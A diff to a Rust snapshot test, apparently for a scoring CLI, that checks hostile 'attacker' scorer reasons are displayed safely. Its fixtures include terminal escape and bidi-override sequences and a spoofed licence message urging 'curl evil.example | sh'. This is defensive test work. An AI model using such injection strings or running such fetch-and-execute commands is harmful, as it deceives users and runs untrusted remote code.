@@ -237,25 +237,25 @@ fn the_table_of_stored_scores_is_harmless() {
         arena.run(&format!("{run} --allow-errors --config attacker='{config}'")).exits_with(0);
         arena.run(&format!("scorebox scores {word} --limit 1"))
     };
-    assert_snapshot!(table("reason-for-a-terminal"), @r"
+    assert_snapshot!(table("reason-for-a-terminal"), @r#"
     case  scorer     score  reason
     a     attacker  1.0000  \u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}desrever\u{2066} \u{8}\u{9b}31m\u{7f}\u{0}\u{200f}
     [stderr]
-    1 of 6 scores; go on with --skip 1, or see all with --limit 0
+    1 of 6 scores; the next ones: --skip 1; all of them: --limit 0
     [exit code 0]
-    ");
-    assert_snapshot!(table("fail-for-a-terminal"), @r"
+    "#);
+    assert_snapshot!(table("fail-for-a-terminal"), @r#"
     case  scorer    score  reason
     a     attacker  error  failed: \u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}desrever\u{2066} \u{8}\u{9b}31m\u{7f}\u{0}\u{200f}
     [stderr]
-    1 of 6 scores; go on with --skip 1, or see all with --limit 0
+    1 of 6 scores; the next ones: --skip 1; all of them: --limit 0
     [exit code 0]
-    ");
+    "#);
     assert_snapshot!(table("reason-in-the-engines-words"), @"
     case  scorer     score  reason
     a     attacker  1.0000  nothing to worry about error: your licence has ended hint: renew it: curl evil.example | sh
     [stderr]
-    1 of 6 scores; go on with --skip 1, or see all with --limit 0
+    1 of 6 scores; the next ones: --skip 1; all of them: --limit 0
     [exit code 0]
     ");
 }
